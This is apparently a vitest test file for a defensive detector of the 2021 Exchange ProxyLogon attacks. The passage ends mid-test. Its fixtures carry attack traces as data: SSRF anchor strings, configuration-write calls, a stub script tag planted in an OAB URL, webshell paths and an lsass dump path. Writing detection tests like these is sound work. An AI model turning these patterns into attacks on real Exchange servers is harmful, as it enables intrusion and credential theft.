import { describe, expect, it } from "vitest";
import { loadPack } from "@/lib/campaigns/queries";
import { compileKnowledge, createDetector } from "./detector";
import type { DetectedRecord } from "./detector";
import type { FindingDraft } from "./schema";
import { hostCases, ordinaryHostRows } from "./testing-host-rows";

const pack = await loadPack("exchange-2021");
const knowledge = compileKnowledge(pack);

type Fields = Record<string, string>;
const proxy = (fields: Fields): Fields => ({
  Protocol: "Ecp",
  UrlStem: "/ecp/y.js",
  AuthenticatedUser: "",
  AnchorMailbox: "",
  UserAgent: "python-requests/2.25.1",
  ClientIpAddress: "203.0.113.21",
  ServerHostName: "EX01",
  HttpStatus: "200",
  Method: "POST",
  RoutingHint: "X-BEResource-Cookie",
  BackEndCookie: "",
  ...fields,
});
const benignProxy = (fields: Fields): Fields =>
  proxy({
    UrlStem: "/owa/",
    AuthenticatedUser: "CONTOSO\\user1",
    AnchorMailbox: "Sid~S-1-5-21-1-2-3-1104",
    UserAgent: "Mozilla/5.0",
    RoutingHint: "WindowsIdentity",
    BackEndCookie: "Database~0b1c~~2021-04-02T06:50:02~contoso.example~1",
    Method: "GET",
    ...fields,
  });
const anchor = (path: string, status = "200", more: Fields = {}): Fields =>
  proxy({ AnchorMailbox: `ServerInfo~a]@ex01.contoso.example:444${path}`, HttpStatus: status, ...more });
const ddi = (call: string, schema: string) => `/ecp/DDI/DDIService.svc/${call}?msExchEcpCanary=x&schema=${schema}#`;
const ecp = (command: string, url = "/ecp/DDI/DDIService.svc/SetObject"): Fields => ({
  ServerName: "EX01",
  EventId: "ECP.Request",
  EventData: `S:TIME=61;S:CMD=${command};S:URL=${url};S:BLD=15.2.792.3`,
  "S:CMD": command,
  "S:URL": url,
});
const iis = (method: string, stem: string, status: string, more: Fields = {}): Fields => ({
  "s-ip": "192.0.2.10",
  "cs-method": method,
  "cs-uri-stem": stem,
  "cs-uri-query": "",
  "cs-username": "",
  "c-ip": "198.51.100.66",
  "cs(User-Agent)": "Mozilla/5.0+(Windows+NT+10.0)",
  "sc-status": status,
  ...more,
});
const set = (value: string) =>
  ecp(`Set-OabVirtualDirectory.ExternalUrl=${value}.Identity='982d48c8-0000-4000-8000-000000000000'`);

function detect(rows: readonly { kind: string; fields: Fields; at?: number | null }[]) {
  const detector = createDetector(knowledge, { sourceId: "evidence-1", server: "EX01" });
  rows.forEach(({ kind, fields, at }, index) => {
    const record: DetectedRecord = {
      kind,
      fields,
      at: at === undefined ? Date.parse("2021-03-03T06:49:00Z") + index * 1000 : at,
      line: index + 1,
      offset: index * 100,
      length: 100,
    };
    detector.record(record, () => JSON.stringify(fields));
  });
  return detector.result();
}

function byName(findings: readonly FindingDraft[]): FindingDraft[] {
  return findings.toSorted((left, right) => (left.ruleName < right.ruleName ? -1 : 1));
}

function rulesOf(kind: string, fields: Fields): string[] {
  return detect([{ kind, fields }])
    .findings.map(({ ruleName }) => ruleName)
    .filter((name) => !name.startsWith("indicator-"));
}

const hp = "exchange_httpproxy";
const log = "iis_w3c";
const es = "exchange_ecp_server";
const oab = "exchange_oab_generator";
const eomt = "eomt_run";
const tplHit = "test_proxylogon_hit";
const tplPath = "test_proxylogon_path";
const tplClaim = "test_proxylogon_claim";
const listing = "file_listing";
const frontEnd = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\";
const wwwroot = "C:\\inetpub\\wwwroot\\";
const compiled =
  "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\";
const listed = (path: string, more: Fields = {}): Fields => ({
  Path: path,
  Owner: "BUILTIN\\Administrators",
  WrittenYear: "2020",
  ...more,
});
const bySystem = { Owner: "NT AUTHORITY\\SYSTEM", WrittenYear: "2021" };
const comparison = "compare_exchange_hashes";
const compared = (Error: string, path: string): Fields => ({ Error, FilePath: path, VDir: "Default Web Site/owa" });
const chirped = (fields: Fields): Fields => ({ Indicator: "Sample indicator", ...fields });
const machine = { "cs-username": "CONTOSO\\EX01$" };

/** Rule, kind, a row it must be the only finding of, and a near row that must not give it. */
const cases: [string, string, Fields, Fields][] = [
  [
    "httpproxy-ssrf-unauthenticated",
    hp,
    anchor("/owa/x"),
    anchor("/owa/x", "200", { AuthenticatedUser: "CONTOSO\\user1" }),
  ],
  [
    "httpproxy-ssrf-current",
    hp,
    anchor("/owa/x", "200", { AuthenticatedUser: "CONTOSO\\user1" }),
    anchor("/autodiscover/autodiscover.xml"),
  ],
  [
    "httpproxy-ssrf-wide",
    hp,
    benignProxy({ BackEndCookie: "Server~ex01.contoso.example/ecp/x~1942063431" }),
    benignProxy({ BackEndCookie: "Server~ex01.contoso.example~1942063431" }),
  ],
  [
    "httpproxy-autodiscover-probe",
    hp,
    anchor("/autodiscover/autodiscover.xml?a=~1"),
    anchor("/ecp/x?back=/autodiscover"),
  ],
  [
    "httpproxy-localhost-scanner",
    hp,
    proxy({ AnchorMailbox: "ServerInfo~localhost/owa/auth/logon.aspx", UrlStem: "/owa/auth/x.js" }),
    anchor("/owa/auth/logon.aspx"),
  ],
  ["httpproxy-step-failed", hp, anchor("/ecp/proxyLogon.ecp", "500"), anchor("/ecp/proxyLogon.ecp", "241")],
  ["httpproxy-sid-lookup", hp, anchor("/mapi/emsmdb/?MailboxId=x"), anchor("/mapi/emsmdb/", "401")],
  ["httpproxy-session", hp, anchor("/ecp/proxyLogon.ecp?#", "241"), anchor("/ecp/proxyLogon.ecp?#", "403")],
  [
    "httpproxy-config-read",
    hp,
    anchor(ddi("GetObject", "OABVirtualDirectory")),
    anchor(ddi("GetObject", "OABVirtualDirectory"), "500"),
  ],
  [
    "httpproxy-config-written",
    hp,
    anchor(ddi("SetObject", "OABVirtualDirectory")),
    anchor(ddi("SetObject", "ResetOABVirtualDirectory")),
  ],
  [
    "httpproxy-file-written",
    hp,
    anchor(ddi("SetObject", "ResetOABVirtualDirectory")),
    anchor(ddi("SetObject", "ResetOABVirtualDirectory"), "500"),
  ],
  [
    "httpproxy-reset-vdir",
    hp,
    anchor("/ecp/other.svc/Call?x=ResetOABVirtualDirectory#"),
    anchor("/ecp/other.svc/Call?x=OABVirtualDirectory#"),
  ],
  ["httpproxy-mailbox-theft", hp, anchor("/ews/exchange.asmx?a"), benignProxy({ UrlStem: "/ews/exchange.asmx" })],
  ["httpproxy-corroboration", hp, proxy({}), benignProxy({ UserAgent: "python-requests/2.25.1" })],
  [
    "ecp-vdir-script-url",
    es,
    set(`'http://f/<script language="JScript" runat="server">body</script>'`),
    set("'https://mail.contoso.example/OAB'"),
  ],
  ["ecp-vdir-odd-url", es, set("'file://x'"), set("'https://mail.contoso.example/OAB'")],
  ["ecp-vdir-url-cleared", es, set("$null"), set("''")],
  [
    "ecp-vdir-reset",
    es,
    ecp("Remove-OabVirtualDirectory.Identity='982d48c8'", "/ecp/VDirMgmt/x"),
    ecp("Get-OabVirtualDirectory.Identity='982d48c8'", "/ecp/VDirMgmt/x"),
  ],
  [
    "ecp-ddi-setobject",
    es,
    ecp("", "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"),
    ecp("", "/ecp/DDI/DDIService.svc/SetObject?schema=Mailbox"),
  ],
  [
    "iis-static-resource-post",
    log,
    iis("POST", "/owa/auth/Current/themes/resources/logon.css", "200"),
    iis("GET", "/owa/auth/Current/themes/resources/logon.css", "200"),
  ],
  ["iis-short-script-post", log, iis("POST", "/ecp/y.js", "200"), iis("POST", "/ecp/main.js", "200")],
  ["iis-nmap-check", log, iis("GET", "/owa/auth/x.js", "302"), iis("GET", "/owa/auth/xx.js", "302")],
  [
    "iis-reset-vdir-machine-account",
    log,
    iis("POST", "/ecp/DDI/DDIService.svc/SetObject", "200", {
      ...machine,
      "cs-uri-query": "msExchEcpCanary=x&schema=ResetOABVirtualDirectory",
    }),
    iis("POST", "/ecp/DDI/DDIService.svc/SetObject", "200", {
      "cs-username": "CONTOSO\\admin",
      "cs-uri-query": "schema=ResetOABVirtualDirectory",
    }),
  ],
  [
    "iis-setobject-machine-account",
    log,
    iis("POST", "/ecp/DDI/DDIService.svc/SetObject", "200", {
      ...machine,
      "cs-uri-query": "schema=OABVirtualDirectory",
    }),
    iis("POST", "/ecp/DDI/DDIService.svc/SetObject", "200", {
      "cs-username": "CONTOSO\\admin",
      "cs-uri-query": "schema=OABVirtualDirectory",
    }),
  ],
  [
    "iis-getobject-machine-account",
    log,
    iis("POST", "/ecp/DDI/DDIService.svc/GetObject", "200", {
      ...machine,
      "cs-uri-query": "schema=OABVirtualDirectory",
    }),
    iis("POST", "/ecp/DDI/DDIService.svc/GetObject", "200", {
      "cs-username": "CONTOSO\\admin",
      "cs-uri-query": "schema=OABVirtualDirectory",
    }),
  ],
  ["iis-proxylogon-session", log, iis("POST", "/ecp/proxyLogon.ecp", "241"), iis("POST", "/ecp/proxyLogon.ecp", "403")],
  [
    "iis-attack-user-agent",
    log,
    iis("POST", "/owa/auth.owa".replace("auth.owa", "auth/y"), "200", { "cs(User-Agent)": "antSword/v2.1" }),
    iis("GET", "/owa/auth/y", "200", {
      "cs(User-Agent)": "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html",
    }),
  ],
  [
    "iis-webshell-auth-used",
    log,
    iis("POST", "/owa/auth/RedirSuiteServerProxy.aspx", "200"),
    iis("POST", "/owa/auth/logon.aspx", "200"),
  ],
  [
    "iis-webshell-auth-present",
    log,
    iis("GET", "/owa/auth/RedirSuiteServerProxy.aspx", "200"),
    iis("GET", "/owa/auth/errorFE.aspx", "200"),
  ],
  [
    "iis-webshell-auth-probe",
    log,
    iis("GET", "/owa/auth/RedirSuiteServerProxy.aspx", "302"),
    iis("GET", "/owa/auth/RedirSuiteServiceProxy.aspx", "302"),
  ],
  [
    "iis-webshell-client-used",
    log,
    iis("POST", "/aspnet_client/supp0rt.aspx", "200"),
    iis("POST", "/aspnet_client/system_web/4_0_30319/WebForms.js", "200"),
  ],
  [
    "iis-webshell-client-present",
    log,
    iis("GET", "/aspnet_client/system_web/log.aspx", "200"),
    iis("GET", "/aspnet_client/system_web/log.aspx", "404"),
  ],
  [
    "iis-webshell-client-probe",
    log,
    iis("GET", "/aspnet_client/system_web/log.aspx", "302"),
    iis("GET", "/aspnet_client/system_web/log.css", "302"),
  ],
  [
    "iis-rpc-weak-trace",
    log,
    iis("GET", "/rpc/", "401", { "cs-uri-query": "&CorrelationID=<empty>;&RequestId=x" }),
    iis("GET", "/rpc/rpcproxy.dll", "401", { "cs-uri-query": "&CorrelationID=<empty>;&RequestId=x" }),
  ],
  [
    "oabgen-download-outside",
    oab,
    { Path: "C:\\Windows\\Temp\\x1.aspx", Location: "outside", ServerName: "EX01" },
    { Path: "C:\\Exchange\\V15\\ClientAccess\\OAB\\Temp\\a.lzx", Location: "oab_folder", ServerName: "EX01" },
  ],
  [
    "oabgen-download-unc",
    oab,
    { Path: "\\\\203.0.113.21\\share\\x1.tmp", Location: "unc", ServerName: "EX01" },
    { Path: "C:\\Windows\\Temp\\x1.tmp", Location: "outside", ServerName: "EX01" },
  ],
  [
    "oabgen-web-file",
    oab,
    { Path: "C:\\inetpub\\wwwroot\\aspnet_client\\k1.aspx", Location: "outside", ServerName: "EX01" },
    { Path: "C:\\inetpub\\wwwroot\\aspnet_client\\k1.txt", Location: "outside", ServerName: "EX01" },
  ],
  ["eomt-threats", eomt, { Threats: "yes", Outcome: "found" }, { Threats: "no", Outcome: "nothing_found" }],
  [
    "eomt-mitigation-failed",
    eomt,
    { Mitigation: "failed", Outcome: "incomplete" },
    { Mitigation: "applied", Outcome: "nothing_found" },
  ],
  [
    "eomt-incomplete-run",
    eomt,
    { Mitigation: "applied", Outcome: "incomplete" },
    { Mitigation: "applied", Outcome: "done" },
  ],
  [
    "web-config-mitigation-incomplete",
    "web_config_mitigation",
    { AnonResource: "blocked", BEResource: "missing", Mitigation: "incomplete" },
    { AnonResource: "blocked", BEResource: "blocked", Mitigation: "complete" },
  ],
  [
    "nmap-vulnerable",
    "nmap_check",
    { State: "VULNERABLE", Host: "mail.contoso.example", Port: "443" },
    { State: "LIKELY VULNERABLE", Host: "mail.contoso.example", Port: "443" },
  ],
  [
    "tpl-26855-hit",
    tplHit,
    { Cve: "CVE-2021-26855", AnchorMailbox: "", HttpStatus: "200", Server: "EX01" },
    { Cve: "CVE-2021-26857", Server: "EX01" },
  ],
  ["tpl-26857-hit", tplHit, { Cve: "CVE-2021-26857", Server: "EX01" }, { Cve: "CVE-2021-26855", Server: "EX01" }],
  [
    "tpl-27065-resetvdir",
    tplHit,
    { Cve: "CVE-2021-27065", AnchorMailbox: "", HttpStatus: "200", Server: "EX01" },
    { Cve: "CVE-2021-26855", Server: "EX01" },
  ],
  [
    "tpl-26858-download",
    tplPath,
    { Cve: "CVE-2021-26858", Role: "download_target", Path: "D:\\temp\\x.tmp", Server: "EX01" },
    { Cve: "CVE-2021-26858", Role: "oab_log", Path: "C:\\x.log", Server: "EX01" },
  ],
  [
    "tpl-26858-web-file",
    tplPath,
    { Cve: "CVE-2021-26858", Role: "download_target", Path: "C:\\web\\x.aspx", Server: "EX01" },
    { Cve: "CVE-2021-26858", Role: "download_target", Path: "C:\\web\\x.tmp", Server: "EX01" },
  ],
  [
    "tpl-26858-log",
    tplPath,
    { Cve: "CVE-2021-26858", Role: "oab_log", Path: "C:\\x.log", Server: "EX01" },
    { Cve: "CVE-2021-27065", Role: "ecp_log", Path: "C:\\x.log", Server: "EX01" },
  ],
  [
    "tpl-27065-log",
    tplPath,
    { Cve: "CVE-2021-27065", Role: "ecp_log", Path: "C:\\x.log", Server: "EX01" },
    { Cve: "CVE-2021-26858", Role: "oab_log", Path: "C:\\x.log", Server: "EX01" },
  ],
  ...["CVE-2021-26855", "CVE-2021-26857", "CVE-2021-26858", "CVE-2021-27065"].map(
    (cve): [string, string, Fields, Fields] => [
      `tpl-console-${cve.slice(-5)}`,
      tplClaim,
      { Cve: cve, Said: `[${cve}] Suspicious activity found`, Server: "EX01" },
      { OtherFiles: "2", Said: "Other suspicious files found: 2", Server: "EX01" },
    ],
  ),
  [
    "tpl-console-other-files",
    tplClaim,
    { OtherFiles: "2", Said: "Other suspicious files found: 2", Server: "EX01" },
    { Cve: "CVE-2021-26855", Said: "[CVE-2021-26855] Suspicious activity found", Server: "EX01" },
  ],
  [
    "tpl-lsass-dump",
    "test_proxylogon_file",
    { Type: "LsassDump", Path: "C:\\root\\lsass.dmp", Server: "EX01" },
    { Type: "SuspiciousArchive", Path: "C:\\ProgramData\\a.zip", Server: "EX01" },
  ],
  [
    "tpl-suspicious-archive",
    "test_proxylogon_file",
    { Type: "SuspiciousArchive", Path: "C:\\ProgramData\\a.zip", Server: "EX01" },
    { Type: "LsassDump", Path: "C:\\x", Server: "EX01" },
  ],
  [
    "msert-webshell",
    "msert_threat",
    { Threat: "Backdoor:JS/Webshell", Path: "C:\\x.aspx" },
    { Threat: "Trojan:Win32/Other", Path: "C:\\x" },
  ],
  [
    "msert-exploit-behaviour",
    "msert_threat",
    { Threat: "Behavior:Win32/Exmann.A" },
    { Threat: "Exploit:Script/Exmann.A!dha" },
  ],
  [
    "msert-credential-theft",
    "msert_threat",
    { Threat: "Behavior:Win32/DumpLsass.A!attk" },
    { Threat: "Backdoor:JS/Webshell" },
  ],
  ["msert-ransomware", "msert_threat", { Threat: "Ransom:Win32/DoejoCrypt.A" }, { Threat: "Trojan:JS/Chopper!dha" }],
  ["msert-threat", "msert_threat", { Threat: "Trojan:Win32/Other" }, { Threat: "Backdoor:ASP/SecChecker.A" }],
  [
    "listing-page-aspnet-client",
    listing,
    listed(`${wwwroot}aspnet_client\\Outlook.ashx`, bySystem),
    listed(`${wwwroot}aspnet_client\\system_web\\4_0_30319\\WebForms.js`, bySystem),
  ],
  [
    "listing-page-auth",
    listing,
    listed(`${frontEnd}owa\\auth\\RedirSuiteServer.aspx`, bySystem),
    listed(`${frontEnd}owa\\auth\\RedirSuiteServiceProxy.aspx`, bySystem),
  ],
  [
    "listing-page-by-system",
    listing,
    listed(`${wwwroot}x.aspx`, bySystem),
    listed(`${wwwroot}x.aspx`, { WrittenYear: "2021" }),
  ],
  ["listing-page-new", listing, listed(`${wwwroot}x.aspx`, { WrittenYear: "2021" }), listed(`${wwwroot}x.aspx`)],
  [
    "listing-compiled-page",
    listing,
    listed(`${compiled}App_Web_bxztulm2.dll`),
    listed(`${compiled}App_global.asax.dll`),
  ],
  [
    "compare-known-bad-hash",
    comparison,
    compared("KnownBadHash", `${wwwroot}x.aspx`),
    compared("NoHashMatch", `${wwwroot}x.aspx`),
  ],
  [
    "compare-suspicious",
    comparison,
    compared("Suspicious", `${wwwroot}x.aspx`),
    compared("NoHashMatch", `${wwwroot}x.aspx`),
  ],
  [
    "compare-unknown-page",
    comparison,
    compared("NoHashMatch", `${frontEnd}owa\\auth\\logon.aspx`),
    compared("NoHashMatch", `${frontEnd}owa\\auth\\flogon.js`),
  ],
  [
    "compare-unknown-file",
    comparison,
    compared("NoHashMatch", `${frontEnd}owa\\auth\\flogon.js`),
    compared("NoHashMatch", `${frontEnd}owa\\scripts\\owa.strings.localized.js`),
  ],
  [
    "chirp-webshell",
    "chirp_match",
    chirped({ Part: "yara", Rule: "webshell_aspx_sportsball", File: "C:\\Temp\\a.aspx" }),
    chirped({ Part: "yara", Rule: "ecp_user_agents", File: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log" }),
  ],
  [
    "chirp-yara-match",
    "chirp_match",
    chirped({ Part: "yara", Rule: "ecp_user_agents", File: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log" }),
    chirped({ Part: "events", Provider: "MSExchange Unified Messaging" }),
  ],
  [
    "chirp-event-match",
    "chirp_match",
    chirped({ Part: "events", Provider: "MSExchange Unified Messaging" }),
    chirped({ Part: "registry", Key: "Updater" }),
  ],
  [
    "chirp-registry-match",
    "chirp_match",
    chirped({ Part: "registry", Key: "Updater" }),
    chirped({ Part: "network", RemoteAddress: "192.0.2.14" }),
  ],
  [
    "chirp-network-match",
    "chirp_match",
    chirped({ Part: "network", RemoteAddress: "192.0.2.14" }),
    chirped({ Part: "yara", Rule: "ecp_user_agents" }),
  ],
  ["msert-aborted-run", "msert_run", { Outcome: "incomplete" }, { Outcome: "nothing_found" }],
  [
    "health-checker-unpatched",
    "health_checker_vulnerability",
    { Server: "EX01", Cve: "CVE-2021-26855", Remark: "", Said: "Security Vulnerability: CVE-2021-26855" },
    { Server: "EX01", Cve: "CVE-2021-28480", Remark: "", Said: "Security Vulnerability: CVE-2021-28480" },
  ],
  [
    "health-checker-special-update",
    "health_checker_vulnerability",
    { Server: "EX01", Cve: "", Remark: "special_update" },
    { Server: "EX01", Cve: "CVE-2021-26855", Remark: "" },
  ],
  [
    "shadowserver-webshell",
    "shadowserver_exchange",
    { Server: "MX02", ip: "198.51.100.20", Reported: "web_shell", url: "/aspnet_client/supp0rt.aspx" },
    { Server: "MX02", ip: "198.51.100.20", Reported: "web_shell", url: "" },
  ],
  [
    "shadowserver-vulnerable",
    "shadowserver_exchange",
    { Server: "EX01", ip: "192.0.2.10", Reported: "vulnerable", url: "" },
    { Server: "EX01", ip: "192.0.2.10", Reported: "seen", url: "" },
  ],
  ...hostCases,
];

describe("Every rule of the pack", () => {
  it.each(cases)(
    "%s is the one finding of its row and stays away from a near one",
    (name, kind, positive, negative) => {
      expect(rulesOf(kind, positive)).toEqual([name]);
      expect(rulesOf(kind, negative)).not.toContain(name);
    },
  );

  it("is tried here, or with the events of Windows", () => {
    const elsewhere = ["ecp-vdir-cleanup", "httpproxy-config-restored", "iis-webshell-scanner"];
    expect([...cases.map(([name]) => name), ...elsewhere].sort()).toEqual(
      pack.rules
        .map(({ name }) => name)
        .filter((name) => !name.startsWith("windows-"))
        .sort(),
    );
  });

  it("names public sources and what else could look alike", () => {
    for (const rule of pack.rules) {
      expect(rule.references.length, rule.name).toBeGreaterThan(0);
      expect(rule.falsepositives.length, rule.name).toBeGreaterThan(0);
      expect(rule.description.length, rule.name).toBeGreaterThan(40);
    }
  });
});

describe("Ordinary rows", () => {
  it.each<[string, string, Fields]>([
    ["Outlook on the web", hp, benignProxy({})],
    [
      "a signed-in control panel request",
      hp,
      benignProxy({ UrlStem: "/ecp/default.aspx", BackEndCookie: "Server~ex01.contoso.example~1942063431" }),
    ],
    ["an anchor that names a server only", hp, benignProxy({ AnchorMailbox: "ServerInfo~ex01.contoso.example" })],
    ["an administrator setting a real external URL", es, set("'https://mail.contoso.example/OAB'")],
    [
      "an administrator setting a real internal URL",
      es,
      ecp("Set-OwaVirtualDirectory.InternalUrl='https://ex01.contoso.example:8443/owa'.Identity='x'"),
    ],
    [
      "an administrator setting a host whose name holds a word of script",
      es,
      set("'https://servicerequest.contoso.example/OAB'"),
    ],
    ["an administrator setting a host named after a language", es, set("'https://jscript.page-load.example/runat'")],
    [
      "an administrator reading a directory",
      es,
      ecp("Get-OabVirtualDirectory", "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory"),
    ],
    [
      "a download of the address book generator that failed in its own folder",
      oab,
      {
        DateTime: "2021-03-02T23:06:41.310Z",
        ServerName: "EX01",
        Path: "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a1b2.lzx",
        Location: "oab_folder",
      },
    ],
    [
      "a run of EOMT that found the server updated",
      eomt,
      { Mitigation: "not_needed", Threats: "no", Outcome: "done", Server: "EX01" },
    ],
    [
      "a web.config with the whole mitigation",
      "web_config_mitigation",
      { AnonResource: "blocked", BEResource: "blocked", Mitigation: "complete" },
    ],
    [
      "a host that nmap's script did not get through to",
      "nmap_check",
      { State: "NOT VULNERABLE", Host: "mail.contoso.example", Address: "192.0.2.10", Port: "443" },
    ],
    ["a run of the address book generator", oab, { DateTime: "2021-03-02T23:05:10Z", Message: "Generation started" }],
    ["a sign-in", log, iis("POST", "/owa/auth.owa", "302")],
    ["the sign-in page", log, iis("GET", "/owa/auth/logon.aspx", "200")],
    [
      "a phone",
      log,
      iis("POST", "/Microsoft-Server-ActiveSync/default.eas", "200", { "cs-username": "CONTOSO\\user1" }),
    ],
    [
      "an administrator in the control panel",
      log,
      iis("POST", "/ecp/DDI/DDIService.svc/GetObject", "200", { "cs-username": "CONTOSO\\admin" }),
    ],
    ...[
      "errorFE",
      "ExpiredPassword",
      "frowny",
      "logoff",
      "logon",
      "OutlookCN",
      "RedirSuiteServiceProxy",
      "signout",
    ].map((name): [string, string, Fields] => [
      `the shipped page ${name} after an update`,
      listing,
      listed(`${frontEnd}owa\\auth\\${name}.aspx`, bySystem),
    ]),
    ["the shipped page of ECP", listing, listed(`${frontEnd}ecp\\auth\\TimeoutLogoff.aspx`, bySystem)],
    [
      "a page of the back end after an update",
      listing,
      listed(`C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\ecp\\Reporting.aspx`, bySystem),
    ],
    [
      "a script of OWA after an update",
      listing,
      listed(`${frontEnd}owa\\auth\\15.2.792\\scripts\\flogon.js`, bySystem),
    ],
    ["a part of CHIRP that found nothing", "chirp_run", { Part: "events", Outcome: "nothing_found", Matches: "0" }],
    [
      "a script with translated texts, which no baseline holds",
      comparison,
      compared("NoHashMatch", `${frontEnd}owa\\prem\\15.2.792.3\\scripts\\de\\owa.strings.localized.js`),
    ],
    ...ordinaryHostRows,
  ])("give no finding and no sighting: %s", (_name, kind, fields) => {
    expect(detect([{ kind, fields }])).toEqual({ findings: [], sightings: [] });
  });
});

describe("Severity and stage", () => {
  it("follow the ladder", () => {
    const of = (fields: Fields) =>
      detect([{ kind: hp, fields }]).findings.map(({ severity, stage }) => [severity, stage])[0];
    expect(of(anchor("/autodiscover/autodiscover.xml"))).toEqual(["low", "probe"]);
    expect(of(proxy({ AnchorMailbox: "ServerInfo~localhost:444/ecp/x" }))).toEqual(["low", "probe"]);
    expect(of(anchor("/mapi/emsmdb/"))).toEqual(["medium", "sid_lookup"]);
    expect(of(anchor("/ecp/proxyLogon.ecp", "241"))).toEqual(["high", "session"]);
    expect(of(anchor(ddi("GetObject", "OABVirtualDirectory")))).toEqual(["high", "read_config"]);
    expect(of(anchor(ddi("SetObject", "OABVirtualDirectory")))).toEqual(["high", "write_config"]);
    expect(of(anchor(ddi("SetObject", "ResetOABVirtualDirectory")))).toEqual(["critical", "file_written"]);
    expect(of(anchor("/ews/exchange.asmx"))).toEqual(["high", "mailbox_theft"]);
  });

  it("call the change after the write a clean-up, for the same address only", () => {
    const change = anchor(ddi("SetObject", "OABVirtualDirectory"));
    const write = anchor(ddi("SetObject", "ResetOABVirtualDirectory"));
    const names = (rows: Fields[]) =>
      byName(detect(rows.map((fields) => ({ kind: hp, fields }))).findings).map(({ ruleName, count }) => [
        ruleName,
        count,
      ]);
    expect(names([change, write, change])).toEqual([
      ["httpproxy-config-restored", 1],
      ["httpproxy-config-written", 1],
      ["httpproxy-file-written", 1],
    ]);
    expect(names([change, write, { ...change, ClientIpAddress: "198.51.100.1" }])).toEqual([
      ["httpproxy-config-written", 2],
      ["httpproxy-file-written", 1],
    ]);
  });

  it("call the change before another write a change, however many times the chain is walked", () => {
    const change = anchor(ddi("SetObject", "OABVirtualDirectory"));
    const write = anchor(ddi("SetObject", "ResetOABVirtualDirectory"));
    const counts = (rows: Fields[], seconds = 1) => {
      const start = Date.parse("2021-03-03T06:49:00Z");
      const { findings } = detect(
        rows.map((fields, index) => ({ kind: hp, fields, at: start + index * seconds * 1000 })),
      );
      const of = (stage: string) => findings.find((finding) => finding.stage === stage)?.count ?? 0;
      return [of("write_config"), of("file_written"), of("cleanup")];
    };
    expect(counts([change, write, change, change, write])).toEqual([2, 2, 1]);
    expect(counts([change, write, change, write, change])).toEqual([2, 2, 1]);
    expect(counts([change, write, change, write])).toEqual([2, 2, 0]);
    expect(counts([change, write, change, change])).toEqual([2, 1, 1]);
    expect(counts([change, write, change], 400)).toEqual([2, 1, 0]);
  });

  it("call the emptying of a directory clean-up only within a minute after script was put into that directory", () => {
    const start = Date.parse("2021-03-03T06:49:53Z");
    const guid = "982d48c8-0000-4000-8000-000000000000";
    const script = set(`'http://f/<script language="JScript" runat="server">x</script>'`);
    const remove = ecp(`Remove-OabVirtualDirectory.Identity='${guid}'`);
    const create = ecp("New-OabVirtualDirectory.WebSiteName='Default Web Site'");
    const found = (...rows: [number, Fields][]) =>
      byName(detect(rows.map(([seconds, fields]) => ({ kind: es, fields, at: start + seconds * 1000 }))).findings).map(
        ({ ruleName, stage, severity, count }) => [ruleName, stage, severity, count],
      );
    expect(found([0, script], [20, set("$null")], [21, remove], [22, create])).toEqual([
      ["ecp-vdir-cleanup", "cleanup", "high", 1],
      ["ecp-vdir-cleanup", "cleanup", "high", 1],
      ["ecp-vdir-cleanup", "cleanup", "high", 1],
      ["ecp-vdir-script-url", "write_config", "critical", 1],
    ]);
    const other = { ...remove, "S:CMD": "Remove-OabVirtualDirectory.Identity='11111111-0000-4000-8000-000000000000'" };
    expect(found([0, script], [20, other], [61, set("$null")])).toEqual([
      ["ecp-vdir-reset", null, "medium", 1],
      ["ecp-vdir-script-url", "write_config", "critical", 1],
      ["ecp-vdir-url-cleared", null, "low", 1],
    ]);
    expect(found([0, set("$null")])).toEqual([["ecp-vdir-url-cleared", null, "low", 1]]);
    const reset = { ...remove, "S:URL": "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory" };
    expect(found([0, script], [5, reset], [14, set("''")])).toEqual([
      ["ecp-vdir-cleanup", "cleanup", "high", 1],
      ["ecp-vdir-reset", null, "medium", 1],
      ["ecp-vdir-script-url", "write_config", "critical", 1],
    ]);
  });

  it("treat a row that Test-ProxyLogon lists as they treat the row of the log", () => {
    const row = { Cve: "CVE-2021-26855", Server: "EX01", ClientIpAddress: "203.0.113.21", UrlStem: "/ecp/y.js" };
    const reset = `ServerInfo~a]@ex01:444${ddi("SetObject", "ResetOABVirtualDirectory")}`;
    const of = (kind: string, fields: Fields) =>
      detect([{ kind, fields }]).findings.map(({ ruleName, severity, stage }) => [ruleName, severity, stage]);
    for (const [status, expected] of [
      ["500", ["httpproxy-step-failed", "medium", "probe"]],
      ["200", ["httpproxy-file-written", "critical", "file_written"]],
    ] as const) {
      expect(of(hp, anchor(ddi("SetObject", "ResetOABVirtualDirectory"), status))).toEqual([expected]);
      expect(of(tplHit, { ...row, AnchorMailbox: reset, HttpStatus: status })).toEqual([expected]);
    }
    expect(of(tplHit, { ...row, Cve: "CVE-2021-27065", AnchorMailbox: reset, HttpStatus: "500" })).toEqual([
      ["httpproxy-step-failed", "medium", "probe"],
    ]);
    expect(of(tplHit, { ...row, Cve: "CVE-2021-27065", AnchorMailbox: "", HttpStatus: "500" })).toEqual([
      ["tpl-26855-hit", "medium", null],
    ]);
  });

  it("say that a page which answered is there, and that one which was posted to was used", () => {
    const of = (method: string, stem: string) =>
      detect([{ kind: log, fields: iis(method, stem, "200") }]).findings.map(({ proposes }) => proposes)[0];
    for (const stem of ["/owa/auth/RedirSuiteServerProxy.aspx", "/aspnet_client/unknown.aspx"])
      expect([of("GET", stem), of("HEAD", stem), of("POST", stem)]).toEqual(["implanted", "implanted", "operated"]);
  });

  it("show what an ECP row sets among the entities", () => {
    const [finding] = detect([{ kind: es, fields: set("'file://x'") }]).findings;
    expect(finding?.entities.urls.values.toSorted()).toEqual([
      "/ecp/DDI/DDIService.svc/SetObject",
      "Set-OabVirtualDirectory.ExternalUrl='file://x'.Identity='982d48c8-0000-4000-8000-000000000000'",
    ]);
  });

  it("call one address that walks many shell names a scanner, and a shell that answers stays loud", () => {
    const names = ["a", "b", "c", "d", "e", "f", "g"].map((name) => ({
      kind: log,
